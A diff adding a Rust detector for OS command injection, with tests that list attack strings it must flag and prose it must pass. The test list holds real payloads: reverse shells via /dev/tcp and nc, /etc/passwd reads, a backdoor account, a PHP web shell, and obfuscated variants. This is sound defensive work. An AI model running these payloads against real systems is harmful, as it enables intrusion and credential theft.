@@ -1,0 +1,312 @@
+//! OS command injection: tokenise the value as a shell (and cmd.exe) would, in each context an
+//! injection can start in (a command line, or inside a quoted argument the input closes),
+//! then judge every command position: after `;`, `|`, `&`, `&&`, `||`, a newline, inside
+//! `$(..)` or backticks, or at the start. A command name alone is not enough where it is also
+//! a word ("cat food", "echo in the mirror"): it needs a separator before it, shell-like
+//! arguments (options, paths, URLs, redirections, expansions) or both.
+//! Also: `$IFS` word splitting, glob paths (`/???/c?t`), Shellshock, `/dev/tcp` shells.
+
+mod code;
+mod commands;
+mod lexer;
+
+use super::{AttackClass, Finding};
+use commands::{Telling, command, glob_matches, net_subcommand, takes_command, takes_number};
+use lexer::{Sep, Start, Token, Word, lex};
+
+fn push(findings: &mut Vec<Finding>, rule: &'static str, score: u16, start: usize, end: usize) {
+    findings.push(Finding {
+        class: AttackClass::Rce,
+        rule,
+        score,
+        span: start..end.max(start),
+    });
+}
+
+/// Judge one value for OS command injection.
+pub(crate) fn detect(value: &str, findings: &mut Vec<Finding>) {
+    let b = value.as_bytes();
+    if let Some(at) = memchr::memmem::find(b, b"() {") {
+        let body = b.get(at + 4..(at + 12).min(b.len())).unwrap_or(b"");
+        if body.contains(&b':') {
+            return push(findings, "rce.shellshock", 5, at, at + 4);
+        }
+    }
+    if let Some((rule, s, e)) = code::detect(b) {
+        return push(findings, rule, 5, s, e);
+    }
+    if let Some(at) =
+        super::ascii::find_ci(b, b"/dev/tcp/").or_else(|| super::ascii::find_ci(b, b"/dev/udp/"))
+    {
+        return push(findings, "rce.reverse-shell", 5, at, at + 9);
+    }
+    let mut best: Option<(u16, &'static str, usize, usize)> = None;
+    for start in [Start::Bare, Start::Quoted(b'\''), Start::Quoted(b'"')] {
+        if let Start::Quoted(q) = start
+            && memchr::memchr(q, b).is_none()
+        {
+            continue;
+        }
+        let Some(tokens) = lex(value, start) else {
+            continue;
+        };
+        if let Some(found) = judge(&tokens, start)
+            && best.is_none_or(|b| found.0 > b.0)
+        {
+            best = Some(found);
+            if found.0 >= 5 {
+                break;
+            }
+        }
+    }
+    if let Some((score, rule, s, e)) = best {
+        push(findings, rule, score, s, e);
+    }
+}
+
+/// Where a command sits.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Position {
+    /// The first word of the value.
+    Start,
+    /// After a list operator or a pipe.
+    AfterSeparator,
+    /// First word of a command substitution.
+    Substitution,
+}
+
+fn judge(tokens: &[Token], start: Start) -> Option<(u16, &'static str, usize, usize)> {
+    let mut best = None;
+    let mut position = match start {
+        Start::Bare => Some(Position::Start),
+        // After the closing quote, the value continues the same word or argument list.
+        Start::Quoted(_) => None,
+    };
+    let mut i = 0;
+    while let Some(tok) = tokens.get(i) {
+        match tok {
+            Token::Sep(Sep::List | Sep::Pipe, _) => position = Some(Position::AfterSeparator),
+            Token::Sep(Sep::SubstOpen, _) => position = Some(Position::Substitution),
+            Token::Sep(Sep::Group, _) => {
+                if position.is_none() {
+                    position = Some(Position::AfterSeparator);
+                }
+            }
+            Token::Sep(Sep::Close, _) => position = None,
+            Token::Redirect(_) => position = None,
+            Token::Word(w) => {
+                if w.ifs {
+                    raise(&mut best, (5, "rce.ifs", w.start, w.end));
+                }
+                if let Some(glob) = glob_path(w) {
+                    raise(&mut best, glob);
+                }
+                if let Some(pos) = position.take() {
+                    let args = arguments(tokens, i + 1);
+                    if let Some(score) = command_score(w, pos, &args, tokens.len()) {
+                        let end = args.last().map_or(w.end, |a| a.end);
+                        raise(&mut best, (score, "rce.command", w.start, end));
+                    }
+                }
+            }
+        }
+        if best.is_some_and(|b: (u16, _, _, _)| b.0 >= 5) {
+            break;
+        }
+        i += 1;
+    }
+    best
+}
+
+fn raise(
+    best: &mut Option<(u16, &'static str, usize, usize)>,
+    found: (u16, &'static str, usize, usize),
+) {
+    if best.is_none_or(|b| found.0 > b.0) {
+        *best = Some(found);
+    }
+}
+
+/// The words after a command up to the next operator (a redirection counts as an argument).
+struct Arg<'t> {
+    word: Option<&'t Word>,
+    redirect: bool,
+    end: usize,
+}
+
+fn arguments(tokens: &[Token], from: usize) -> Vec<Arg<'_>> {
+    let mut args = Vec::new();
+    for tok in tokens.iter().skip(from).take(32) {
+        match tok {
+            Token::Word(w) => args.push(Arg {
+                word: Some(w),
+                redirect: false,
+                end: w.end,
+            }),
+            Token::Redirect(at) => args.push(Arg {
+                word: None,
+                redirect: true,
+                end: at + 1,
+            }),
+            Token::Sep(..) => break,
+        }
+    }
+    args
+}
+
+/// Whether an argument is shell syntax rather than prose.
+fn shell_like(command: &str, arg: &Arg<'_>) -> bool {
+    let Some(w) = arg.word else {
+        return arg.redirect;
+    };
+    let t = w.text.as_str();
+    let bytes = t.as_bytes();
+    // `-la`, `-e`, `--remote`; not `-BABY` (a search term excluded).
+    let option = bytes.first() == Some(&b'-')
+        && bytes
+            .get(1)
+            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'-')
+        && !w.upper;
+    let windows_switch = bytes.first() == Some(&b'/')
+        && bytes.len() <= 12
+        && bytes.get(1).is_some_and(|c| c.is_ascii_alphabetic())
+        && !t[1..].contains('/');
+    let path = t.starts_with('/')
+        || t.starts_with("./")
+        || t.starts_with("../")
+        || t.starts_with("~/")
+        || t.starts_with("\\\\")
+        || t.starts_with('%') && t[1..].contains('%')
+        || bytes.get(1) == Some(&b':') && matches!(bytes.get(2), Some(b'\\' | b'/'));
+    let url = t.contains("://");
+    let number = takes_number(command) && bytes.first().is_some_and(u8::is_ascii_digit);
+    let names_command = takes_command(command) && commands::command(t).is_some();
+    let net = command == "net" && net_subcommand(t);
+    let ip = bytes.iter().filter(|c| **c == b'.').count() == 3
+        && bytes.iter().all(|c| c.is_ascii_digit() || *c == b'.');
+    option || windows_switch || path || url || number || names_command || net || ip || w.shellish
+}
+
+fn command_score(w: &Word, pos: Position, args: &[Arg<'_>], _total: usize) -> Option<u16> {
+    let name = w.text.trim_start_matches('@');
+    let telling = match command(name) {
+        Some(t) => t,
+        None => {
+            // An absolute path to an executable: `/usr/bin/id`, `/bin/sh`.
+            let bin = [
+                "/bin/",
+                "/usr/bin/",
+                "/sbin/",
+                "/usr/sbin/",
+                "/usr/local/bin/",
+            ];
+            return bin
+                .iter()
+                .any(|p| name.starts_with(p) && name.len() > p.len())
+                .then_some(5);
+        }
+    };
+    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
+    let base = base.strip_suffix(".exe").unwrap_or(base);
+    let pathed = name.contains('/') || name.contains('\\');
+    let shellish_args = args.iter().any(|a| shell_like(base, a));
+    let no_args = args.is_empty();
+    let score = match pos {
+        Position::Substitution => 5,
+        Position::AfterSeparator => match telling {
+            Telling::Unique | Telling::Tool => 5,
+            Telling::Common if no_args || shellish_args || pathed => 5,
+            Telling::Common => return None,
+        },
+        // At the start of the value a command word is often prose ("curl and divergence"):
+        // it counts with shell arguments, as a path, or alone when it is a tool name only.
+        Position::Start if shellish_args || pathed || telling == Telling::Unique && no_args => 5,
+        Position::Start => return None,
+    };
+    Some(score)
+}
+
+/// `/???/c?t /e??/p*d`: a glob that the shell expands to a binary or a sensitive file.
+fn glob_path(w: &Word) -> Option<(u16, &'static str, usize, usize)> {
+    let t = w.text.as_bytes();
+    if t.first() != Some(&b'/') || !t.iter().any(|c| matches!(c, b'?' | b'*' | b'[')) {
+        return None;
+    }
+    commands::GLOB_TARGETS
+        .iter()
+        .any(|target| glob_matches(t, target.as_bytes()))
+        .then_some((5, "rce.glob-path", w.start, w.end))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn score(value: &str) -> u16 {
+        let mut f = Vec::new();
+        detect(value, &mut f);
+        f.iter().map(|f| f.score).max().unwrap_or(0)
+    }
+
+    #[test]
+    fn command_injection_scores_five() {
+        for a in [
+            "; cat /et'c/pa'ss'wd",
+            "|id|",
+            "a;id",
+            "; id",
+            "&& dir",
+            "& dir C:\\Users",
+            "| net view",
+            "& type %SYSTEMROOT%\\repair\\SYSTEM",
+            "| set /a 3482*7301",
+            "`curl -L http://example.org`",
+            "$(`cat /etc/passwd`)",
+            ";getent$IFS$9hosts$IFS$9somehost.example;",
+            "cat${IFS}/etc/passwd",
+            "c''at /etc/passwd",
+            "/???/c?t /???/p??s??",
+            "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
+            "cmd=127.0.0.1 && ls /etc",
+            "\n/usr/bin/id\n",
+            "\" && whoami",
+            "whoami",
+            "nc -lvvp 4444 -e /bin/sh",
+            "cat /etc/hosts",
+            "sleep 5",
+            "ping -n 30 127.0.0.1",
+            "net user hacker Password1 /ADD",
+            "echo \"<?php system($_GET['cmd']); ?>\" > cmd.php",
+            "ax--exec=`id`--remote=origin",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "w^h^o^a^m^i",
+        ] {
+            assert_eq!(score(a), 5, "missed: {a}");
+        }
+    }
+
+    #[test]
+    fn prose_with_command_words_passes() {
+        for b in [
+            "bash away in the gym",
+            "curl and divergence",
+            "echo in the mirror",
+            "exec noun",
+            "ls 300 lexus",
+            "nc 8000 controller",
+            "zsh is the best!",
+            "time he came.",
+            "Salt & pepper",
+            "Tom & Jerry; cat food",
+            "R&D; type 2 diabetes",
+            "The parameter 5 is&|.",
+            "dir",
+            "Apt is gated; call when you get here, and we'll come down to get it.",
+            "BLUE BROWN -BABY -TODDLER",
+            "sleep apnoea; snoring",
+            "pain 7/10; ice pack",
+        ] {
+            assert_eq!(score(b), 0, "false positive: {b}");
+        }
+    }
+}
